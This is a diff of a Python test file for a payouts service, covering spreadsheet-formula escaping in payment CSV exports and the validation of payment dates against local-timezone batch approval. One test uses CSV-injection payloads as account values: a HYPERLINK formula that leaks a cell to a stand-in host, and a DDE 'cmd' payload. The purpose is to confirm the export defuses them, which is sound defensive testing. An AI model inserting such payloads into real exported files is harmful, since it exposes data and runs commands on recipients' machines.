@@ -13,7 +13,7 @@ from claims.enums import TimeOfDay
 from claims.states import ClaimState
 from conflict_service.db import db
 from conflict_service.errors import Conflict, Forbidden, InvalidTransition, NotFound, ValidationError
-from conflict_service.timeutil import utcnow
+from conflict_service.timeutil import day_start, local_date, local_today, utcnow
 from payouts import operations, queries
 from payouts.enums import BatchStatus, PaymentMethod, PaymentStatus
 from payouts.models import Payment
@@ -86,14 +86,14 @@ def test_the_payment_file_guards_payee_accounts_against_spreadsheet_formulas(pay
     # The schemas refuse such accounts, but rows also arrive through imports and older versions: the file guards them.
     banked = make.owner(ir.clerk, ir.office, name="Rahim Asadi")
     operations.set_payout_account(banked, {"method": PaymentMethod.BANK, "bank_name": "Bank Melli",
-                                           "account_number": '=HYPERLINK("http://x.example/?"&A1,"IBAN")'}, ir.clerk)
+                                           "account_number": '=HYPERLINK("http://x.ex/?"&A1,"IBAN")'}, ir.clerk)
     phoned = make.owner(ir.clerk, ir.office, name="Zahra Karimi", phone="+98 915 555 0102")
     phoned.phone = "+1+cmd|' /C calc'!A0"
     payouts.approved(ir, owner=banked, **DAY)
     payouts.approved(ir, owner=phoned, incident_at=utcnow() - timedelta(days=5), **DAY)
     batch = payouts.batch(ir)
     accounts = [row[1] for row in csv.reader(io.StringIO(operations.payment_file(batch, ir.manager)))][1:]
-    assert accounts == ['\'=HYPERLINK("http://x.example/?"&A1,"IBAN")', "'+1+cmd|' /C calc'!A0"]
+    assert accounts == ['\'=HYPERLINK("http://x.ex/?"&A1,"IBAN")', "'+1+cmd|' /C calc'!A0"]
 
 
 def test_confirming_pays_the_claim_once(payouts, ir):
@@ -120,6 +120,41 @@ def test_a_payment_cannot_be_confirmed_before_its_batch_is_approved_or_dated_in_
     assert "future" in str(error.value.errors["paid_at"])
     with pytest.raises(ValidationError):
         operations.confirm_payment(payment, {"reference": "X", "paid_at": utcnow() - timedelta(days=3)}, ir.manager)
+
+
+def test_a_payment_moment_is_checked_against_the_approval_as_an_instant_and_a_day_as_the_local_day(payouts, ir):
+    claim = payouts.approved(ir, **DAY)
+    batch = payouts.batch(ir)
+    payment = payments_of(batch)[0]
+    tz = claim.office.timezone
+    approved_day = local_date(batch.approved_at, tz)
+    # A moment on the day of the approval but before it is refused: instants are compared, not dates.
+    with pytest.raises(ValidationError) as error:
+        operations.confirm_payment(payment, {"reference": "X", "paid_at": batch.approved_at - timedelta(minutes=1)},
+                                   ir.manager)
+    assert "before its batch was approved" in str(error.value.errors["paid_at"])
+    assert tz.split("/")[-1] in str(error.value.errors["paid_at"])  # the approval is shown with its zone
+    # A day is the office's local day: the day before the approval's is refused, tomorrow is in the future.
+    for day, words in ((approved_day - timedelta(days=1), "before its batch"),
+                       (local_today(tz) + timedelta(days=1), "future")):
+        with pytest.raises(ValidationError) as error:
+            operations.confirm_payment(payment, {"reference": "X", "paid_on": day}, ir.manager)
+        assert words in str(error.value.errors["paid_on"])
+    assert payment.status == PaymentStatus.SENT
+    # The approval's own day is accepted; it is recorded at the approval, never before it (its local midnight was).
+    operations.confirm_payment(payment, {"reference": "X", "paid_on": approved_day}, ir.manager)
+    assert payment.status == PaymentStatus.CONFIRMED and claim.status == ClaimState.PAID
+    assert payment.paid_at == batch.approved_at and local_date(payment.paid_at, tz) == approved_day
+
+
+def test_a_day_after_the_approval_is_recorded_as_its_local_start(payouts, ir):
+    tz = payouts.approved(ir, **DAY).office.timezone
+    batch = payouts.batch(ir)
+    payment = payments_of(batch)[0]
+    with time_machine.travel(utcnow() + timedelta(days=3), tick=False):
+        day = local_today(tz) - timedelta(days=1)
+        operations.confirm_payment(payment, {"reference": "X", "paid_on": day}, ir.manager)
+    assert payment.paid_at == day_start(day, tz) and payment.paid_at > batch.approved_at
 
 
 def test_a_failed_payment_sends_the_claim_back_with_its_reason_and_it_can_be_paid_again(payouts, ir):
